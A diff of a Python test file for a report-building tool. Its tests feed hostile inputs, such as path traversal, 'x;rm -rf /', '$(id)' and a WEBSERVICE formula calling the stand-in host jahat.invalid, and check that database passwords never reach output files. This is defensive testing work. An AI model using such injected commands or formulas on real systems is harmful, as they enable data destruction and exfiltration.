@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
 import re
 import shutil
 import socket
@@ -18,8 +20,9 @@ import openpyxl
 import pikepdf
 import pypdfium2
 import pytest
-import snapshots
+import servers
 from conftest import BuiltReport, build_report
+from test_database import fill
 
 from ipasn_analysis import params
 from ipasn_analysis.cli import main
@@ -29,6 +32,7 @@ from ipasn_analysis.presentation.blocks import Prose
 from ipasn_analysis.presentation.locale import Locale
 from ipasn_analysis.presentation.typst import render_typst
 from ipasn_analysis.reporting.redact import redacted
+from ipasn_analysis.sources.location import DATABASE_URL, password_in_environment, with_password, without_password
 
 ROOT = Path(__file__).resolve().parent.parent.parent
 REGIONS = ("banjar", "tapin", "kalsel")
@@ -171,26 +175,19 @@ def told(capsys: pytest.CaptureFixture[str]) -> list[str]:
     return capsys.readouterr().err.strip().splitlines()
 
 
-@pytest.mark.parametrize(
-    "region",
-    ["../x", "x;rm -rf /", "/etc/passwd", "banjar/../tapin", "$(id)", "`id`", "banjar\x00", "b\nanjar", "{region}", "-x", "", ".", "‮banjar"],
-)  # fmt: skip
+PATHS = ["../x", "/etc/passwd", "banjar/../tapin", ".", ""]
+COMMANDS = ["x;rm -rf /", "$(id)", "`id`", "banjar\x00", "b\nanjar", "{region}", "-x", "\u202ebanjar"]
+
+
+@pytest.mark.parametrize("region", [*PATHS, *COMMANDS])
 def test_regions_that_are_paths_or_commands_are_refused(region, tmp_path, capsys):
     data = tmp_path / "data"
     (data / "banjar").mkdir(parents=True)
-    with pytest.raises(SystemExit) if region == "-x" else _nothing():
+    with pytest.raises(SystemExit) if region == "-x" else contextlib.nullcontext():
         assert main(["report", region, "--data", str(data), "--out", str(tmp_path / "out")]) == 2
     lines = told(capsys)
     assert 1 <= len(lines) <= 2 and "Traceback" not in " ".join(lines)
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
-
-
-class _nothing:  # noqa: N801
-    def __enter__(self) -> None:
-        return None
-
-    def __exit__(self, *_: object) -> None:
-        return None
 
 
 def test_folders_of_data_with_strange_names_are_left_alone(tmp_path, capsys):
@@ -247,15 +244,16 @@ def test_broken_files_are_refused_in_a_line(content, tmp_path, capsys):
     assert 1 <= len(lines) <= 2 and "profil.csv" in lines[0] and len(lines[0]) < 1000
 
 
-def test_a_formula_in_a_workbook_is_not_computed(tmp_path):
+def test_a_formula_in_a_workbook_is_not_computed(tmp_path, capsys):
     hostile.records(tmp_path / "data", form="xlsx text")
-    path = next((tmp_path / "data" / "banjar" / "2025-12-23").glob("profil.xlsx"))
+    path = tmp_path / "data" / "banjar" / "2025-12-23" / "profil.xlsx"
     book = openpyxl.load_workbook(path)
     header = [cell.value for cell in book.active[1]]
     book.active.cell(2, header.index("UNOR INDUK NAMA") + 1).value = '=WEBSERVICE("http://jahat.invalid/z")'
     book.save(path)
-    report = build_report("banjar", tmp_path / "data", tmp_path / "out", "--formats", "json")
-    assert report.result["pegawai"]["jumlah"] == len(hostile.TEXTS) * hostile.PER_UNIT
+    assert main(["report", "banjar", "--data", str(tmp_path / "data"), "--out", str(tmp_path / "out")]) == 2
+    (line,) = told(capsys)
+    assert "profil.xlsx" in line and "UNOR INDUK NAMA" in line and "formula" in line
 
 
 def test_packages_of_the_typesetter_are_not_fetched(tmp_path):
@@ -322,6 +320,54 @@ def test_a_failed_notebook_names_nobody(tmp_path):
     assert "KeyError" in kept and nip not in kept and nip not in str(caught.value)
 
 
+@pytest.mark.parametrize(
+    ("url", "plain"),
+    [
+        ("postgresql://u:r4hasia@host:5432/db", "postgresql://u@host:5432/db"),
+        ("postgresql+psycopg://u:a#b/c?d@host/db", "postgresql+psycopg://u@host/db"),
+        ("postgresql://u@host/db?password=r4hasia&sslmode=require", "postgresql://u@host/db?sslmode=require"),
+        ("mysql://u:p@host/db?sslpassword=x", "mysql://u@host/db"),
+        ("sqlite:////data/a.db", "sqlite:////data/a.db"),
+        ("postgresql://u@host/db", "postgresql://u@host/db"),
+        ("data/sample", "data/sample"),
+    ],
+)
+def test_a_url_without_its_password(url, plain, monkeypatch):
+    monkeypatch.delenv(DATABASE_URL, raising=False)
+    assert without_password(url) == plain
+    with password_in_environment(url) as told_:
+        assert told_ == plain
+        assert with_password(plain) == url
+    assert DATABASE_URL not in os.environ and with_password(plain) == plain
+
+
+def no_secret_below(folder: Path, secret: bytes) -> None:
+    for path in folder.rglob("*"):
+        assert secret.decode() not in path.name
+        if path.is_file():
+            assert secret not in path.read_bytes(), path
+
+
+@pytest.mark.database
+def test_a_password_of_postgresql_is_in_no_file_and_stock_papermill_finds_it(tmp_path, monkeypatch, capfd):
+    data = tmp_path / "data"
+    hostile.ready(data, "tapin")
+    rows = snapshots_of(data / "tapin" / "2025-12-23" / "nilai_ipasn.csv")
+    monkeypatch.setenv("IPASN_STORE", str(tmp_path / "store"))
+    monkeypatch.delenv(DATABASE_URL, raising=False)
+    with servers.postgresql() as url:
+        fill(url, {"nilai_ipasn": rows}, region="tapin")
+        assert main(["report", "tapin", "--data", url, "--out", str(tmp_path / "out")]) == 0
+        no_secret_below(tmp_path / "out", servers.PASSWORD.encode())
+        no_secret_below(tmp_path / "store", servers.PASSWORD.encode())
+        assert servers.PASSWORD not in "".join(capfd.readouterr())
+        notebook = next((tmp_path / "out").rglob("*.ipynb"))
+        command = [sys.executable, "-m", "papermill", str(notebook), str(tmp_path / "again.ipynb"), "--no-progress-bar"]
+        told_ = os.environ | {DATABASE_URL: url}
+        subprocess.run(command, check=True, capture_output=True, timeout=240, env=told_)
+    assert servers.PASSWORD not in (tmp_path / "again.ipynb").read_text(encoding="utf-8")
+
+
 def test_a_password_is_in_no_file_and_the_notebook_runs_again(tmp_path, monkeypatch):
     """SQLite takes no password, but its URL may hold one among its options."""
     data = tmp_path / "db"
@@ -332,10 +378,8 @@ def test_a_password_is_in_no_file_and_the_notebook_runs_again(tmp_path, monkeypa
     url = f"sqlite:///{base}?password=s3cr3t-kunci"
     monkeypatch.setenv("IPASN_STORE", str(tmp_path / "store"))
     assert main(["report", "tapin", "--data", url, "--out", str(tmp_path / "out")]) == 0
-    for path in [*(tmp_path / "out").rglob("*"), *(tmp_path / "store").rglob("*")]:
-        assert "s3cr3t" not in path.name
-        if path.is_file():
-            assert b"s3cr3t" not in path.read_bytes(), path
+    no_secret_below(tmp_path / "out", b"s3cr3t")
+    no_secret_below(tmp_path / "store", b"s3cr3t")
     notebook = next((tmp_path / "out").rglob("*.ipynb"))
     parameters = json.loads(notebook.read_text(encoding="utf-8"))["metadata"]["papermill"]["parameters"]
     assert parameters["data"] == f"sqlite:///{base}"
